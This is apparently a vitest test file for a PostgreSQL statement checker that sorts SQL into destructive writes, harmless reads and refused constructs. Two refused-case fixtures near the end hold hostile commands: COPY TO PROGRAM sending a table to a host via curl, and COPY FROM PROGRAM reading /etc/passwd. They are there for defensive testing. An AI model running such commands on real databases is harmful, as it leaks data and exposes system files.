import { describe, expect, it } from 'vitest'
import { detectSql, splitSql, sqlAutocommitOnly, SqlSyntaxError } from '../../src/runner/judge/sql.js'
import { msg } from '../../src/runner/terminal/messages/index.js'
import { expectJudged } from '../helpers/judge.js'

// Reasons as the judge says them in the active language (through the catalogue).
const says = msg.judge.sql
type Phrase = 'emptiesTables' | 'changesPrivileges' | 'updatesStatistics' | 'changesServerSettings' | 'runsProcedure' | 'runsCodeBlock' | 'takesTableLocks' | 'sendsNotification' | 'terminatesBackend' | 'takesAdvisoryLock'
const statement = (name: string, phrase: Phrase): string => says.statement(name, says[phrase])
const call = (fn: string, phrase: Phrase): string => says.call(fn, says[phrase])

/** [label, sql, destructive, what the reasons must mention (destructive cases)] */
type Case = [label: string, sql: string, destructive: boolean, mention?: RegExp | string | string[]]

const guide: Case[] = [
  [
    'guide: missing indexes',
    "-- 누락된 인덱스 확인\nSELECT schemaname, tablename, attname, n_distinct, correlation\nFROM pg_stats\nWHERE schemaname = 'public'\nAND n_distinct > 100;",
    false,
  ],
  [
    'guide: index sizes',
    'SELECT schemaname, tablename, indexname, pg_size_pretty(pg_relation_size(indexrelid))\nFROM pg_stat_user_indexes\nORDER BY pg_relation_size(indexrelid) DESC;',
    false,
  ],
  ['guide: slow queries', '-- 느린 쿼리 확인\nSELECT query, mean_time, calls, total_time\nFROM pg_stat_statements\nORDER BY mean_time DESC\nLIMIT 10;', false],
  ['guide: active connections', "SELECT pid, usename, application_name, state, query_start, query\nFROM pg_stat_activity\nWHERE state != 'idle';", false],
  [
    'guide: lock waits',
    `SELECT blocked_locks.pid AS blocked_pid, blocking_locks.pid AS blocking_pid
FROM pg_catalog.pg_locks blocked_locks
JOIN pg_catalog.pg_stat_activity blocked_activity ON blocked_activity.pid = blocked_locks.pid
JOIN pg_catalog.pg_locks blocking_locks ON blocking_locks.locktype = blocked_locks.locktype
WHERE NOT blocked_locks.granted;`,
    false,
  ],
  [
    'guide: table sizes',
    "SELECT schemaname, tablename,\n       pg_size_pretty(pg_total_relation_size(schemaname||'.'||tablename)) as size\nFROM pg_tables\nWHERE schemaname = 'public'\nORDER BY pg_total_relation_size(schemaname||'.'||tablename) DESC;",
    false,
  ],
  [
    'guide: delete old data',
    "-- 오래된 데이터 정리\nDELETE FROM ai_usage_records WHERE created_at < NOW() - INTERVAL '1 year';\nDELETE FROM chat_messages WHERE created_at < NOW() - INTERVAL '6 months';",
    true,
    [says.deletesRows('ai_usage_records'), says.deletesRows('chat_messages')],
  ],
]

const writes: Case[] = [
  ['INSERT', "INSERT INTO audit_log (msg) VALUES ('x')", true, says.insertsRows('audit_log')],
  ['UPDATE', 'UPDATE users SET admin = false WHERE id = 1', true, says.updatesRows('users')],
  ['UPDATE schema-qualified', 'UPDATE public.users SET x = 1', true, /public\.users/],
  ['DELETE', 'DELETE FROM sessions', true, says.deletesRows('sessions')],
  ['MERGE', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', true, /MERGE/],
  ['TRUNCATE', 'TRUNCATE jobs, job_runs', true, statement('TRUNCATE', 'emptiesTables')],
  ['CREATE TABLE', 'CREATE TABLE t (id int)', true, /CREATE TABLE/],
  ['CREATE INDEX', 'CREATE INDEX i ON t (a)', true, /CREATE INDEX/],
  ['ALTER TABLE', 'ALTER TABLE users ADD COLUMN x int', true, /ALTER TABLE/],
  ['DROP TABLE', 'DROP TABLE IF EXISTS tmp', true, /DROP TABLE/],
  ['DROP INDEX CONCURRENTLY', 'DROP INDEX CONCURRENTLY i', true, /DROP INDEX/],
  ['GRANT', 'GRANT SELECT ON users TO readonly', true, statement('GRANT', 'changesPrivileges')],
  ['REVOKE', 'REVOKE ALL ON users FROM public', true, /REVOKE/],
  ['CREATE ROLE', "CREATE ROLE app LOGIN PASSWORD 'x'", true, /CREATE ROLE/],
  ['COMMENT', "COMMENT ON TABLE users IS 'people'", true, /COMMENT/],
  ['REINDEX', 'REINDEX TABLE users', true, /REINDEX/],
  ['VACUUM', 'VACUUM ANALYZE users', true, /VACUUM/],
  ['ANALYZE', 'ANALYZE users', true, statement('ANALYZE', 'updatesStatistics')],
  ['CLUSTER', 'CLUSTER users USING users_pkey', true, /CLUSTER/],
  ['REFRESH MATERIALIZED VIEW', 'REFRESH MATERIALIZED VIEW CONCURRENTLY daily_stats', true, /REFRESH MATERIALIZED VIEW/],
  ['COPY FROM', "COPY users FROM '/tmp/users.csv' CSV", true, says.copyFrom('users')],
  ['COPY FROM STDIN', 'COPY users FROM STDIN', true, /COPY FROM/],
  ['COPY TO a server file', "COPY users TO '/tmp/users.csv'", true, says.copyToFile],
  ['SELECT INTO', 'SELECT * INTO backup_users FROM users', true, says.selectInto('backup_users')],
  ['CREATE TABLE AS', 'CREATE TABLE t2 AS SELECT 1', true, /CREATE TABLE AS/],
  ['ALTER SYSTEM', "ALTER SYSTEM SET work_mem = '64MB'", true, statement('ALTER SYSTEM', 'changesServerSettings')],
  ['CALL', 'CALL cleanup()', true, statement('CALL', 'runsProcedure')],
  ['DO block', "DO $$ BEGIN DELETE FROM x; END $$", true, statement('DO', 'runsCodeBlock')],
  ['LOCK', 'LOCK TABLE users IN ACCESS EXCLUSIVE MODE', true, statement('LOCK', 'takesTableLocks')],
  ['NOTIFY', "NOTIFY deploys, 'done'", true, statement('NOTIFY', 'sendsNotification')],
  ['data-modifying CTE', 'WITH d AS (DELETE FROM jobs WHERE done RETURNING *) SELECT count(*) FROM d', true, says.deletesRows('jobs')],
  ['nested data-modifying CTE', 'WITH u AS (UPDATE t SET x = 1 RETURNING id) SELECT * FROM u JOIN v USING (id)', true, /UPDATE/],
  ['EXPLAIN ANALYZE runs the statement', 'EXPLAIN ANALYZE DELETE FROM logs', true, /DELETE/],
  ['SELECT FOR UPDATE', 'SELECT * FROM jobs WHERE id = 1 FOR UPDATE', true, says.rowLocks('FOR UPDATE')],
  ['SELECT FOR SHARE in a subquery', 'SELECT * FROM (SELECT * FROM jobs FOR SHARE) j', true, /FOR SHARE/],
  ['pg_terminate_backend', "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle'", true, call('pg_terminate_backend', 'terminatesBackend')],
  ['pg_cancel_backend', 'SELECT pg_cancel_backend(123)', true, /pg_cancel_backend/],
  ['pg_reload_conf', 'SELECT pg_reload_conf()', true, /pg_reload_conf/],
  ['advisory lock', 'SELECT pg_advisory_lock(42)', true, call('pg_advisory_lock', 'takesAdvisoryLock')],
  ['try advisory xact lock', 'SELECT pg_try_advisory_xact_lock(1)', true, /advisory/],
  ['schema-qualified function', 'SELECT pg_catalog.pg_advisory_lock_shared(1)', true, /advisory/],
  ['pg_notify', "SELECT pg_notify('c', 'x')", true, /pg_notify/],
  ['pg_rotate_logfile', 'SELECT pg_rotate_logfile()', true, /pg_rotate_logfile/],
  ['pg_switch_wal', 'SELECT pg_switch_wal()', true, /pg_switch_wal/],
  ['pg_create_restore_point', "SELECT pg_create_restore_point('before')", true, /pg_create_restore_point/],
  ['setval', "SELECT setval('users_id_seq', 100)", true, /setval/],
  ['nextval', "SELECT nextval('users_id_seq')", true, /nextval/],
  ['lo_unlink', 'SELECT lo_unlink(1234)', true, /lo_unlink/],
  ['dblink_exec', "SELECT dblink_exec('conn', 'DELETE FROM x')", true, /dblink_exec/],
  ['pg_stat_reset', 'SELECT pg_stat_reset()', true, /pg_stat_reset/],
  ['pg_stat_statements_reset', 'SELECT pg_stat_statements_reset()', true, /pg_stat_statements_reset/],
  ['set_config session-wide', "SELECT set_config('work_mem', '1GB', false)", true, /set_config/],
  ['side-effect function in WHERE', 'SELECT 1 FROM t WHERE pg_advisory_xact_lock(1) IS NOT NULL', true, /advisory/],
  ['one write among reads', 'SELECT 1;\nSELECT 2;\nUPDATE t SET a = 1;', true, says.updatesRows('t')],
]

const reads: Case[] = [
  ['SELECT', 'SELECT 1 AS ok;', false],
  ['string literal DROP', "SELECT 'DROP TABLE x'", false],
  ['string literal with ERROR', "SELECT count(*) FROM logs WHERE level = 'ERROR'", false],
  ['line comment DELETE', '-- DELETE FROM x\nSELECT 1', false],
  ['block comment with TRUNCATE', '/* TRUNCATE users; */ SELECT 1', false],
  ['dollar-quoted string with a statement', 'SELECT $$DELETE FROM x$$', false],
  ['identifier named delete', 'SELECT "delete" FROM t', false],
  ['column named update_at', 'SELECT updated_at, deleted_at FROM t', false],
  ['plain EXPLAIN', 'EXPLAIN DELETE FROM logs', false],
  ['EXPLAIN (ANALYZE false)', 'EXPLAIN (ANALYZE false) DELETE FROM logs', false],
  ['SHOW', 'SHOW work_mem', false],
  ['SET statement_timeout', "SET statement_timeout = '5s'", false],
  ['SET LOCAL lock_timeout', "SET LOCAL lock_timeout = '1s'", false],
  ['set_config is_local true', "SELECT set_config('statement_timeout', '5s', true)", false],
  ['LISTEN', 'LISTEN deploys', false],
  ['read-only CTE', 'WITH a AS (SELECT 1) SELECT * FROM a', false],
  ['pg_stat_activity', 'SELECT * FROM pg_stat_activity', false],
  ['pg_size_pretty and sleep', 'SELECT pg_size_pretty(pg_database_size(current_database())), pg_sleep(0)', false],
  ['advisory unlock', 'SELECT pg_advisory_unlock_all()', false],
  ['VALUES', 'VALUES (1), (2)', false],
  ['empty', '   \n  -- nothing here\n', false],
  ['cursor', 'DECLARE c CURSOR FOR SELECT 1; FETCH c; CLOSE c', false],
  ['COPY TO STDOUT', 'COPY (SELECT * FROM users) TO STDOUT', false],
  ['Korean comments and identifiers', '-- 사용자 수\nSELECT count(*) AS "사용자" FROM users', false],
]

const refused: [label: string, sql: string, line: number, mention: RegExp | string][] = [
  ['BEGIN', 'SELECT 1;\nBEGIN;', 2, says.transactionRefused('BEGIN')],
  ['START TRANSACTION', 'START TRANSACTION READ WRITE', 1, /START TRANSACTION/],
  ['COMMIT', 'DELETE FROM x;\nCOMMIT;', 2, /COMMIT/],
  ['ROLLBACK', 'ROLLBACK', 1, /ROLLBACK/],
  ['ABORT', 'ABORT', 1, /ABORT/],
  ['END', 'END', 1, /END/],
  ['SAVEPOINT', 'SAVEPOINT a', 1, /SAVEPOINT/],
  ['RELEASE', 'RELEASE SAVEPOINT a', 1, /RELEASE/],
  ['PREPARE TRANSACTION', "PREPARE TRANSACTION 'x'", 1, /PREPARE TRANSACTION/],
  ['COMMIT PREPARED', "COMMIT PREPARED 'x'", 1, /COMMIT PREPARED/],
  ['ROLLBACK PREPARED', "ROLLBACK PREPARED 'x'", 1, /ROLLBACK PREPARED/],
  ['SET TRANSACTION', 'SET TRANSACTION READ WRITE', 1, /SET TRANSACTION/],
  ['SET SESSION CHARACTERISTICS', 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 1, /SESSION CHARACTERISTICS/],
  ['SET default_transaction_read_only', 'SET default_transaction_read_only = off', 1, /default_transaction_read_only/],
  ['SET LOCAL transaction_read_only', '\n\nSET LOCAL transaction_read_only = off', 3, /transaction_read_only/],
  ['RESET transaction_read_only', 'RESET transaction_read_only', 1, /RESET transaction_read_only/],
  ['RESET ALL', 'RESET ALL', 1, /RESET ALL/],
  ['set_config of read-only mode', "SELECT set_config('default_transaction_read_only', 'off', true)", 1, /set_config/],
  ['COPY TO PROGRAM', "COPY users TO PROGRAM 'curl -d @- http://x'", 1, /PROGRAM/],
  ['COPY FROM PROGRAM', "SELECT 1;\n\nCOPY users FROM PROGRAM 'cat /etc/passwd'", 3, /PROGRAM/],
]

describe('detectSql', () => {
  describe.each([
    ['operations guide', guide],
    ['writes and side effects', writes],
    ['reads and look-alikes', reads],
  ] as const)('%s', (_group, cases) => {
    it.each(cases)('%s', async (_label, sql, destructive, mention) => {
      expectJudged(await detectSql(sql), destructive, mention)
    })
  })

  describe('refused constructs', () => {
    it.each(refused)('%s', async (_label, sql, line, mention) => {
      const d = await detectSql(sql)
      expect(d.syntaxErrors).toEqual([])
      expect(d.refused.length).toBeGreaterThan(0)
      if (typeof mention === 'string') expect(d.refused.map((r) => r.message)).toContain(mention)
      else expect(d.refused.map((r) => r.message).join('\n')).toMatch(mention)
      expect(d.refused.map((r) => r.line)).toContain(line)
    })
  })

  it.each([
    ['typo on line 2', 'SELECT 1;\nSELEC 2;', 2, /SELEC/],
    ['end of input', 'SELECT *\nFROM', 2, /end of input/],
    ['unterminated string', "SELECT 1;\n\nSELECT 'abc", 3, /unterminated/],
    ['unterminated comment', 'SELECT 1;\n/* abc', 2, /unterminated/],
    ['after Korean text', "-- 한국어 주석\n-- 두 번째\nSELECT '한글' FROM;", 3, /syntax error/],
    ['guide: postgresql.conf in a sql fence', '-- postgresql.conf 최적화 설정\nshared_buffers = 256MB\neffective_cache_size = 1GB', 2, /shared_buffers/],
  ])('syntax error: %s', async (_label, sql, line, message) => {
    const d = await detectSql(sql)
    expect(d.syntaxErrors.length).toBeGreaterThan(0)
    expect(d.syntaxErrors[0]!.line).toBe(line)
    expect(d.syntaxErrors[0]!.message).toMatch(message)
  })

  it('judges the statements around a syntax error', async () => {
    const d = await detectSql('SELECT 1;\nSELEC 2;\nDELETE FROM y;')
    expect(d.syntaxErrors).toEqual([{ line: 2, message: 'syntax error at or near "SELEC"' }])
    expect(d.reasons).toEqual([says.deletesRows('y')])
  })

  it('refused and destructive at once', async () => {
    const d = await detectSql('BEGIN;\nDELETE FROM x;\nCOMMIT;')
    expect(d.destructive).toBe(true)
    expect(d.refused.map((r) => r.line)).toEqual([1, 3])
  })

  it('deduplicates reasons', async () => {
    const d = await detectSql('DELETE FROM x WHERE a = 1;\nDELETE FROM x WHERE a = 2;')
    expect(d.reasons).toEqual([says.deletesRows('x')])
  })
})

describe('splitSql', () => {
  it('gives each statement with its start line, leading comments dropped', async () => {
    const sql = "-- 오래된 데이터 정리\nSELECT 1;\n\n/* two */ DELETE FROM x\n  WHERE a = ';';\n  VACUUM"
    expect(await splitSql(sql)).toEqual([
      { text: 'SELECT 1', line: 2 },
      { text: "DELETE FROM x\n  WHERE a = ';'", line: 4 },
      { text: 'VACUUM', line: 6 },
    ])
  })

  it('handles multi-byte text before statements', async () => {
    expect(await splitSql("SELECT '한국어';\nSELECT 2")).toEqual([
      { text: "SELECT '한국어'", line: 1 },
      { text: 'SELECT 2', line: 2 },
    ])
  })

  it('returns nothing for comments only', async () => {
    expect(await splitSql('-- nothing\n')).toEqual([])
  })

  it('throws SqlSyntaxError with the line', async () => {
    await expect(splitSql('SELECT 1;\nSELEC 2')).rejects.toMatchObject({ name: 'SqlSyntaxError', line: 2 })
    await expect(splitSql('SELEC')).rejects.toBeInstanceOf(SqlSyntaxError)
  })
})

describe('sqlAutocommitOnly', () => {
  it.each([
    ['VACUUM', 'VACUUM users', /VACUUM/],
    ['CREATE INDEX CONCURRENTLY', 'CREATE INDEX CONCURRENTLY i ON t (a)', /CREATE INDEX CONCURRENTLY/],
    ['REINDEX CONCURRENTLY', 'REINDEX INDEX CONCURRENTLY i', /REINDEX CONCURRENTLY/],
    ['DROP INDEX CONCURRENTLY', 'DROP INDEX CONCURRENTLY i', /DROP INDEX CONCURRENTLY/],
    ['CREATE DATABASE', 'CREATE DATABASE d', /CREATE DATABASE/],
    ['DROP DATABASE', 'DROP DATABASE d', /DROP DATABASE/],
    ['ALTER SYSTEM', "ALTER SYSTEM SET work_mem = '1MB'", /ALTER SYSTEM/],
  ])('%s needs autocommit', async (_label, sql, mention) => {
    const reasons = await sqlAutocommitOnly(sql)
    expect(reasons).toHaveLength(1)
    expect(reasons[0]).toMatch(mention)
  })

  it.each([['ANALYZE', 'ANALYZE users'], ['CREATE INDEX', 'CREATE INDEX i ON t (a)'], ['DELETE', 'DELETE FROM x']])(
    '%s runs in a transaction',
    async (_label, sql) => {
      expect(await sqlAutocommitOnly(sql)).toEqual([])
    },
  )
})
